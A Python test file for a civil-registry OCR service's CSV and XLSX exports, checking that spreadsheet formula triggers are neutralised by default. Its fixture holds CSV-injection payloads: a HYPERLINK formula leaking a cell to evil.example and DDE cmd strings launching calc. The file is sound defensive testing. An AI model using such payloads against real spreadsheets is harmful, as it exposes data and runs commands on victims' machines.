"""CSV exports neutralise formula triggers (OWASP) unless raw values are asked for; XLSX is text."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy import select
from test_export_support import sample_ledger, sample_record, scan_page

from models.entities import AuditEvent, FieldValue
from ocr_service.config import Settings
from ocr_service.db import session_scope
from ocr_service.export import ExportField, ExportRecord, write_export_csv, write_ministry_xlsx
from ocr_service.export.bundle import write_book_zip
from tests.conftest import auth
from tests.factories import add_book, add_user
from tests.test_cli_admin import cli

# What an attacker types into a field: each would run or leak in a spreadsheet opened as is.
HOSTILE = {
    "nksHoTen": '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "nksNoiSinh": "@SUM(1+1)*cmd|' /C calc'!A0",
    "nksQueQuan": "+84 912 345 678",
    "meNoiCuTru": "-2+3+cmd|' /C calc'!A0",
    "ghiChu": "\t=1+1",  # leading white space is dropped on export: '=' then leads
}


def hostile_record() -> ExportRecord:
    rec = sample_record("khai-sinh", 1)
    for code, value in HOSTILE.items():
        rec.fields[code] = ExportField(value, value, 0.9, None)
    return rec


def csv_rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


def test_the_owasp_rule() -> None:
    from ocr_service.export.tabular import neutralise_formula

    for text in ("=1", "+1", "-1", "@A1", "\t=1", "\r=1"):
        assert neutralise_formula(text) == "'" + text
    for text in ("Nguyễn Văn An", "05.03.1987", "01/2019", "", "a=b", "'=1"):
        assert neutralise_formula(text) == text


def test_csv_neutralises_formula_triggers_by_default_and_raw_keeps_them() -> None:
    safe, raw = io.BytesIO(), io.BytesIO()
    write_export_csv(sample_ledger("khai-sinh"), [hostile_record()], safe)
    write_export_csv(sample_ledger("khai-sinh"), [hostile_record()], raw, raw=True)
    row, raw_row = csv_rows(safe.getvalue())[0], csv_rows(raw.getvalue())[0]
    for code, value in HOSTILE.items():
        value = value.strip()
        assert row[code] == "'" + value, code
        assert raw_row[code] == value, code
    # Everything else is as before.
    assert {k: v for k, v in row.items() if k not in HOSTILE} == {
        k: v for k, v in raw_row.items() if k not in HOSTILE
    }
    for cell in row.values():
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_xlsx_writes_formula_like_values_as_text(tmp_path: Path) -> None:
    """openpyxl stores a string starting with '=' as a formula unless told it is text."""
    out = tmp_path / "book.xlsx"
    write_ministry_xlsx(sample_ledger("khai-sinh"), [hostile_record()], out)
    zip_out = tmp_path / "book.zip"
    write_book_zip(sample_ledger("khai-sinh"), [hostile_record()], scan_page, zip_out, strict=False)
    with zipfile.ZipFile(zip_out) as zf:
        name = next(n for n in zf.namelist() if n.endswith(".xlsx"))
        bundled = io.BytesIO(zf.read(name))
    for source in (out, bundled):
        ws = load_workbook(source)["DL Import"]  # not data_only: a formula would show as one
        header = [str(c.value).split()[0] for c in ws[1]]
        cells = {code: ws.cell(row=2, column=header.index(code) + 1) for code in HOSTILE}
        for code, cell in cells.items():
            assert cell.data_type == "s", (code, cell.data_type)
            assert cell.value == HOSTILE[code].strip(), code  # text, unchanged (no quote)


def _plant(settings: Settings, record_id: str, code: str, value: str) -> None:
    with session_scope(settings) as session:
        field = session.scalar(
            select(FieldValue).where(FieldValue.record_id == record_id, FieldValue.code == code)
        )
        assert field is not None
        field.value = value


def test_api_and_cli_csv_are_safe_by_default_with_an_explicit_raw_option(
    client: TestClient, settings: Settings
) -> None:
    book = add_book(settings, records=1)
    _, clerk = add_user(settings, "lan", commune="Xã An Nhơn")
    rid = book.record_ids[0]
    _plant(settings, rid, "nksHoTen", HOSTILE["nksHoTen"])
    url = f"/api/v1/ledgers/{book.ledger_id}/export?include_drafts=true&format="
    safe = client.get(url + "csv", headers=auth(clerk))
    assert safe.status_code == 200, safe.text
    assert csv_rows(safe.content)[0]["nksHoTen"] == "'" + HOSTILE["nksHoTen"]
    raw = client.get(url + "csv&raw=true", headers=auth(clerk))
    assert raw.status_code == 200, raw.text
    assert csv_rows(raw.content)[0]["nksHoTen"] == HOSTILE["nksHoTen"]
    not_csv = client.get(url + "json&raw=true", headers=auth(clerk))
    assert not_csv.status_code == 422 and "csv" in not_csv.json()["error"]["message"]
    with session_scope(settings) as session:
        exports = session.scalars(
            select(AuditEvent).where(AuditEvent.action == "ledger.export").order_by(AuditEvent.id)
        ).all()
        assert [e.data.get("raw", False) for e in exports] == [False, True]

    safe_cli = cli(settings, "export", book.ledger_id, "--format", "csv", "--include-drafts")
    assert safe_cli.returncode == 0, safe_cli.stderr
    assert csv_rows(safe_cli.stdout.encode())[0]["nksHoTen"] == "'" + HOSTILE["nksHoTen"]
    raw_cli = cli(
        settings, "export", book.ledger_id, "--format", "csv", "--include-drafts", "--raw-csv"
    )
    assert raw_cli.returncode == 0, raw_cli.stderr
    assert csv_rows(raw_cli.stdout.encode())[0]["nksHoTen"] == HOSTILE["nksHoTen"]
    wrong = cli(settings, "export", book.ledger_id, "--format", "json", "--raw-csv")
    assert wrong.returncode == 2 and "--raw-csv" in wrong.stderr


@pytest.mark.parametrize(("value", "cell"), [("-", ""), ("- -", "'- -"), ("—", "—")])
def test_placeholders_are_emptied_and_a_leading_dash_is_quoted(value: str, cell: str) -> None:
    """A lone '-' stays the empty cell it always was (REGISTERS.md §6.1); any other text
    starting with '-' is quoted like every formula trigger."""
    rec = sample_record("khai-sinh", 1)
    rec.fields["ghiChu"] = ExportField(value, value, 0.9, None)
    buf = io.BytesIO()
    write_export_csv(sample_ledger("khai-sinh"), [rec], buf)
    assert csv_rows(buf.getvalue())[0]["ghiChu"] == cell
